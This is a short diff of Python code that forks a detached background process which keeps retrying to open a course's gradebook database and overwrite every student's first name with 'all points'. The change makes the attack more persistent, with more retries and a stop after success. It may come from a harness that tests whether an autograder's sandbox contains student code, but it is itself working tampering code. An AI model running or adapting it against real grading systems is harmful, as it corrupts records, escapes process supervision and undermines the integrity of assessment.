@@ -106,11 +106,12 @@ if os.fork() == 0:
     os.setsid()
     if os.fork() == 0:
         os.closerange(0, 64)
-        for _ in range(20):
+        for _ in range(300):
             time.sleep(0.1)
             try:
                 with sqlite3.connect(KNOWN["course"] + "/gradebook.db", timeout=1) as gradebook:
                     gradebook.execute("update student set first_name = 'all points'")
+                break
             except sqlite3.Error:
                 pass
     os._exit(0)
